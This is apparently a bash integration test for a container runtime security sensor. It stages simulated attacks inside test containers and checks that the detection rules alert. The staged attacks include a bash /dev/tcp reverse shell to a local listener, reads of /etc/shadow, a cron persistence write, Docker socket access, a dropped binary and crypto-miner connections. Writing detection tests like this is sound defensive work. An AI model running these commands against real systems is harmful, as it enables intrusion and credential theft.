#!/bin/bash
# `moat defender` against real containers on the real Docker engine.
#
# Starts the defender (eBPF sensor; with MOAT_SENSOR=fallback the proc
# connector + fanotify source, on the exec/file subset), then runs attacks in
# containers of the debootstrap sample image (moat-test/app:1): a reverse
# shell to a listener on 127.0.0.1, a stratum connect and a miner command
# line, a write below /etc/cron.d, a read of /etc/shadow, a binary copied in
# after start (the drift rule kills it in the kernel before it can create its
# marker file), and a touch of the engine socket mounted in. Each expected
# rule must appear with the container's real id, name and image (from
# `docker inspect`). A benign HTTP server in a container, hit 200 times with
# curl, must raise nothing.
#
# Environment (set by meson): MOAT; MOAT_SENSOR=fallback for the fallback run.
# Exit 0 pass, 1 fail, 77 skip (not root, no engine, no BPF and no fallback).
. "$(dirname "$0")/lib.sh"
setup_work
need_moat
defender_engine
MODE=${MOAT_SENSOR:-ebpf}
P=moat-def-$$                       # container name prefix

DEF_PID=
cleanup() {
    if [ -n "$DEF_PID" ]; then kill -TERM "$DEF_PID" 2>/dev/null || true; fi
    "$docker" ps -aq --filter "name=$P" | xargs -r "$docker" rm -f >/dev/null 2>&1 || true
    if [ -n "${LISTEN_PID:-}" ]; then kill "$LISTEN_PID" 2>/dev/null || true; fi
    if [ -n "${KEEP:-}" ]; then echo "kept $W" >&2; else rm -rf "$MOAT_WORK"; fi
}
trap cleanup EXIT

# --- start the defender and wait until every probe is attached ---
# the built-in rules plus one kill rule that only names an executable, which
# the kernel enforces at exec (the deny map)
mkdir -p "$W/rules"
cp "$REPO"/rules/*.yaml "$W/rules/"
cp /bin/true "$W/denied"
cat >"$W/rules/deny.yaml" <<EOF
rules:
  - id: test-deny-exe
    description: an executable on the test's deny list
    severity: critical
    mitre: [T1204]
    action: kill
    when: {and: [{field: evt.kind, equals: exec}, {field: proc.exe, in: ["$W/denied"]}]}
EOF
# Built before anything starts: drift compares whole seconds (the exe's
# ctime at or after the container's start second), so a probe compiled in
# the same second as its container's start would be killed as drift.
if [ "$MODE" = ebpf ]; then
    cc -static -O2 -o "$W/sysprobe" "$REPO/tests/integration/syscall_probe.c" || fail "cannot build the syscall probe"
fi
start_defender 60 --rules "$W/rules" --format json
note "$(head -n 1 "$W/defender.err")"
grep -q "sensor $MODE" "$W/defender.err" || fail "expected sensor $MODE: $(head -n 1 "$W/defender.err")"

run() {     # run NAME [docker run args...] -> the container stays for inspection
    local name=$P-$1 rc=0; shift
    "$docker" run --name "$name" "$@" >"$W/$name.out" 2>&1 || rc=$?
    # 125: the engine itself failed to create or start it (not the attack's
    # exit status); try once more so an engine hiccup is not read as a miss
    if [ "$rc" = 125 ]; then
        note "docker run $name failed in the engine: $(tail -n 2 "$W/$name.out" | tr '\n' ' '); retrying"
        "$docker" rm -f "$name" >/dev/null 2>&1 || true
        "$docker" run --name "$name" "$@" >"$W/$name.out" 2>&1 || true
    fi
}

# --- attacks (as root: the image's user is nobody) ---
# The fallback learns a container from its first exec notification and only
# then watches its filesystem: give it a second before the file accesses.
D=; [ "$MODE" = fallback ] && D='sleep 1;'
run shadow --user 0 --entrypoint bash "$IMG" -c "$D cat /etc/shadow >/dev/null"
# relative to the working directory: the kernel joins it to the cwd before filtering
run relshadow --user 0 -w /etc --entrypoint bash "$IMG" -c "$D cat ./shadow >/dev/null"
run cron --user 0 -w /var/tmp --entrypoint bash "$IMG" -c "$D"'mkdir -p /etc/cron.d && echo "* * * * * root true" > /etc/cron.d/x'
run sock --user 0 -v /var/run/docker.sock:/var/run/docker.sock --entrypoint touch "$IMG" /var/run/docker.sock

# drift: a binary copied in after start would create a marker; it must die first
"$docker" run -d --user 0 --name "$P-drift" --entrypoint sleep "$IMG" 600 >/dev/null
sleep 2                               # the defender learns the container from its first exec
if [ "$MODE" = ebpf ]; then
    cp /usr/bin/touch "$W/dropper"          # killed at exec: the marker never appears
    args="/tmp/marker"
else
    # the fallback reads /proc after the exec and kills from user space: it
    # needs the process to still be there, so the dropper lingers
    cp /usr/bin/sleep "$W/dropper"
    args="5"
fi
"$docker" cp "$W/dropper" "$P-drift:/tmp/dropper"
DRC=0; "$docker" exec "$P-drift" /tmp/dropper $args || DRC=$?
if "$docker" exec "$P-drift" test -e /tmp/marker; then
    MARKER=present
else
    MARKER=absent
fi

# a reverse shell: both sensors class its stdio as a TCP connection (the
# fallback through /proc and a copy of the socket)
# below the ephemeral range (32768-), where other connections could hold it
PORT=$(( 20000 + $$ % 12000 ))
socat "TCP-LISTEN:$PORT,bind=127.0.0.1,reuseaddr" SYSTEM:'sleep 1; echo exit' &
LISTEN_PID=$!
sleep 0.5
run revshell --network host --entrypoint bash "$IMG" -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
if [ "$MODE" = ebpf ]; then
    run miner --network host --entrypoint bash "$IMG" \
        -c 'exec 3<>/dev/tcp/127.0.0.1/3333; true' 
    run minerargs --entrypoint bash "$IMG" -c ': --url stratum+tcp://pool.invalid:3333'
    # kernel-level calls: module load, ptrace, bpf(), a host device mount
    # (unconfined seccomp: Docker's profile would refuse them before the sensor sees them)
    run sys --user 0 --security-opt seccomp=unconfined -v "$W/sysprobe:/sysprobe:ro" \
        --entrypoint bash "$IMG" -c '/sysprobe; true'
    # benign: a small HTTP server, 200 requests
    WPORT=$(( PORT + 1 ))
    "$docker" run -d --name "$P-web" --network host --entrypoint python3 "$IMG" -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', $WPORT)); s.listen(64)
while True:
    c, _ = s.accept(); c.recv(4096)
    c.sendall(b'HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok'); c.close()
" >/dev/null
    for _ in $(seq 1 50); do curl -s -o /dev/null "http://127.0.0.1:$WPORT/" && break; sleep 0.2; done
    ok=0
    for _ in $(seq 1 200); do
        [ "$(curl -s "http://127.0.0.1:$WPORT/")" = ok ] && ok=$((ok + 1))
    done
    [ "$ok" = 200 ] || fail "benign server answered $ok of 200 requests"
fi
DENY_RC=0; "$W/denied" || DENY_RC=$?
sleep 2
kill -TERM "$DEF_PID" 2>/dev/null || {
    DRC_DEF=0; wait "$DEF_PID" || DRC_DEF=$?
    tail -n 40 "$W/defender.err" >&2
    fail "the defender died before the end of the test (exit $DRC_DEF)"; }
DRC_DEF=0; wait "$DEF_PID" || DRC_DEF=$?
DEF_PID=
[ "$DRC_DEF" = 0 ] || { cat "$W/defender.err" >&2; fail "defender exit $DRC_DEF on SIGTERM"; }
note "$(tail -n 1 "$W/defender.err")"
# every probe is gone once it exits
if command -v bpftool >/dev/null && bpftool prog show 2>/dev/null | grep -q 'handle_exec'; then
    fail "BPF programs still loaded after the defender exited"
fi

# --- check the alerts ---
missed() {  # missed RULE SUFFIX NAME ID: what the container did and how it ended,
            # to tell a sensor miss from a container that never ran
    echo "--- $3 output:" >&2; tail -n 20 "$W/$3.out" >&2 || true
    "$docker" inspect -f 'state: {{.State.Status}} exit {{.State.ExitCode}} error "{{.State.Error}}" started {{.State.StartedAt}} finished {{.State.FinishedAt}}' "$3" >&2 || true
    echo "alerts naming the container: $(grep -c "\"id\":\"$4\"" "$W/alerts.jsonl")" >&2
    fail "rule $1 for $2: see above"
}
expect() {  # expect RULE CONTAINER-SUFFIX [ACTION]
    local name=$P-$2 id image
    id=$("$docker" inspect -f '{{.Id}}' "$name") || fail "no container $name"
    image=$("$docker" inspect -f '{{.Config.Image}}' "$name")
    $PY - "$W/alerts.jsonl" "$1" "$id" "$name" "$image" "${3:-}" <<'PYEOF' || missed "$1" "$2" "$name" "$id"
import json, sys
path, rule, cid, name, image, action = sys.argv[1:]
seen = []
for line in open(path):
    a = json.loads(line)
    assert a["schema"] == "moat.alert/v1"
    if a["rule"] != rule:
        continue
    c = a["container"] or {}
    seen.append((c.get("name"), a["action"]))
    if c.get("id") == cid and c.get("name") == name and c.get("image") == image \
            and a["mitre"] and (not action or a["action"] == action):
        sys.exit(0)
print("no %s alert for %s (%s); %s alerts seen: %s" % (rule, name, cid[:12], rule, seen), file=sys.stderr)
sys.exit(1)
PYEOF
}
expect read-shadow shadow
expect read-shadow relshadow
grep '"rule":"read-shadow"' "$W/alerts.jsonl" | grep -q "\"name\":\"$P-relshadow\".*\"fd.name\":\"/etc/shadow\"" ||
    fail "the relative read of ./shadow in /etc was not reported as /etc/shadow"
expect write-below-etc-cron cron
expect shell-in-container cron
# exec records carry the working directory as the container sees it
$PY - "$W/alerts.jsonl" "$P-cron" <<'PYEOF' || fail "shell-in-container for $P-cron: proc.cwd is not /var/tmp"
import json, sys
for line in open(sys.argv[1]):
    a = json.loads(line)
    if a["rule"] == "shell-in-container" and (a["container"] or {}).get("name") == sys.argv[2]:
        sys.exit(0 if a["details"].get("proc.cwd") == "/var/tmp" else print(a["details"]) or 1)
sys.exit(1)
PYEOF
expect container-drift drift
expect reverse-shell revshell
grep '"rule":"reverse-shell"' "$W/alerts.jsonl" | grep -q '"proc.stdin_type":"tcp"' ||
    fail "the reverse shell's stdin was not classed as a TCP connection"
[ "$DRC" = 137 ] || fail "dropped binary exited $DRC, expected 137 (SIGKILL)"
if [ "$MODE" = ebpf ]; then
    # fanotify does not watch the engine's tmpfs socket bind-mounted in
    expect docker-socket-in-container sock
    expect container-drift drift killed-in-kernel
    [ "$DENY_RC" = 137 ] || fail "denied executable exited $DENY_RC, expected 137"
    grep -q '"rule":"test-deny-exe".*"action":"killed-in-kernel"' "$W/alerts.jsonl" ||
        fail "no test-deny-exe alert with action killed-in-kernel"
    [ "$MARKER" = absent ] || fail "dropped binary created its marker before it was killed"
    expect reverse-shell-cmdline revshell
    expect crypto-miner-pool-port miner
    expect crypto-miner-args minerargs
    expect kernel-module-load-in-container sys
    expect ptrace-attach sys
    expect bpf-in-container sys
    expect mount-host-device-in-container sys
    web_id=$("$docker" inspect -f '{{.Id}}' "$P-web")
    if grep -q "$web_id" "$W/alerts.jsonl"; then
        grep "$web_id" "$W/alerts.jsonl" | head -n 3 >&2
        fail "benign web container raised alerts"
    fi
fi
host=$($PY -c 'import json,sys; print(sum(1 for l in open(sys.argv[1]) if json.loads(l)["container"] is None))' "$W/alerts.jsonl")
pass "$MODE: $(wc -l <"$W/alerts.jsonl") alerts ($host host), drift exit $DRC, marker $MARKER"
